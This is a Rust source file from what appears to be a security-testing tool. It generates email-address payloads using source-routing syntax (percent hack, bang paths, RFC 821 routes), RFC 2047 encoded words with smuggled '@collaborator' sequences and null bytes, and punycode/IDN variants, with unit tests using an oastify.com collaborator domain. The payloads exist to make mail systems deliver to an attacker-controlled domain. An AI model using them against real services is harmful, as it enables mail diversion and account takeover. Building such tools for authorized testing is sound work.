//! Legacy and header-level forms: source routing, RFC 2047 encoded words and
//! internationalized domains.

use super::TemplateContext;
use crate::encoding::{UNICODE_LABELS, base64_encode, encoded_word, punycode_lookup};

/// Percent hack, UUCP bang paths and RFC 821 source routes.
///
/// Every template names both domains, so relays that honor the legacy syntax
/// deliver somewhere other than the final `@` domain.
pub(super) fn routing(ctx: &TemplateContext<'_>) -> Vec<String> {
    let (c, t) = (ctx.collaborator, ctx.target);
    vec![
        format!("user%{c}@{t}"),
        format!("user%{t}@{c}"),
        format!(r#""user%{c}"@{t}"#),
        format!("{t}!user@{c}"),
        format!("user!{c}@{t}"),
        format!("{c}!user@{t}"),
        format!("@{t}:user@{c}"),
        format!("@{c}:user@{t}"),
    ]
}

pub(super) fn encoded_words(ctx: &TemplateContext<'_>) -> Vec<String> {
    let (c, t) = (ctx.collaborator, ctx.target);

    let words = [
        encoded_word("UTF-8", "B", &base64_encode("user")),
        encoded_word("UTF-8", "Q", "user"),
        encoded_word("UTF-8", "B", &base64_encode("test")),
        encoded_word("UTF-8", "Q", "test=user"),
        encoded_word("ISO-8859-1", "Q", "user"),
        encoded_word("UTF-7", "B", &base64_encode("UserName")),
        // malformed: bogus charset, lowercase encodings
        encoded_word("x", "b", &base64_encode("user")),
        encoded_word("x", "q", "user"),
        encoded_word("utf-8", "q", "user"),
        // payload outside the single-byte range degrades to an empty word
        encoded_word("UTF-8", "B", &base64_encode("例子")),
    ];
    let mut variants: Vec<String> = words.iter().map(|w| format!("{w}@{c}")).collect();

    // A decoder that expands the word ends up with the collaborator as the
    // real domain while the outer address still names the target.
    let smuggled = [
        encoded_word("x", "q", &format!("user=40{c}=3e=00")),
        encoded_word("utf-8", "q", &format!("user=40{c}=3e=20")),
        encoded_word("x", "b", &base64_encode(&format!("user@{c}>\0"))),
        encoded_word("UTF-7", "q", &format!("user&AEA-{c}&ACA-")),
    ];
    variants.extend(smuggled.iter().map(|w| format!("{w}foo@{t}")));

    variants
}

/// Unicode labels, their punycode forms and malformed ACE labels.
pub(super) fn international(ctx: &TemplateContext<'_>) -> Vec<String> {
    let c = ctx.collaborator;

    let mut variants = Vec::new();
    for label in UNICODE_LABELS {
        variants.push(format!("user@{label}.{c}"));
        variants.push(format!("user@{}.{c}", punycode_lookup(label)));
    }

    const ACE_LABELS: &[&str] = &[
        "xn--fsq",
        "xn--e1afmkfd",
        "xn--fsqu00a",
        "xn--mnchen-3ya",
        "xn--exmple-cua",
        // malformed
        "xn--",
        "xn---",
        "XN--E1AFMKFD",
        "xn--zz",
    ];
    variants.extend(ACE_LABELS.iter().map(|ace| format!("user@{ace}.{c}")));

    variants
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_routing_uses_both_domains() {
        let ctx = TemplateContext::new("abc.oastify.com", Some("target.io"));
        for variant in routing(&ctx) {
            assert!(variant.contains("abc.oastify.com"), "{variant}");
            assert!(variant.contains("target.io"), "{variant}");
        }
    }

    #[test]
    fn test_routing_default_target() {
        let ctx = TemplateContext::new("abc.oastify.com", None);
        assert!(routing(&ctx).iter().all(|v| v.contains("example.com")));
        assert!(routing(&ctx).contains(&"user%abc.oastify.com@example.com".to_string()));
    }

    #[test]
    fn test_encoded_words() {
        let ctx = TemplateContext::new("abc.oastify.com", None);
        let variants = encoded_words(&ctx);
        assert!(variants.contains(&"=?UTF-8?B?dXNlcg==?=@abc.oastify.com".to_string()));
        assert!(variants.contains(&"=?UTF-8?Q?user?=@abc.oastify.com".to_string()));
        assert!(variants.contains(&"=?UTF-7?B?VXNlck5hbWU=?=@abc.oastify.com".to_string()));
        assert!(variants.contains(&"=?x?q?user?=@abc.oastify.com".to_string()));
        assert!(variants.contains(&"=?UTF-8?B??=@abc.oastify.com".to_string()));
        assert!(
            variants
                .contains(&"=?x?q?user=40abc.oastify.com=3e=00?=foo@example.com".to_string())
        );
    }

    #[test]
    fn test_international_pairs() {
        let ctx = TemplateContext::new("abc.oastify.com", None);
        let variants = international(&ctx);
        assert!(variants.contains(&"user@münchen.abc.oastify.com".to_string()));
        assert!(variants.contains(&"user@xn--mnchen-3ya.abc.oastify.com".to_string()));
        assert!(variants.contains(&"user@例子.abc.oastify.com".to_string()));
        assert!(variants.contains(&"user@xn--.abc.oastify.com".to_string()));
    }
}
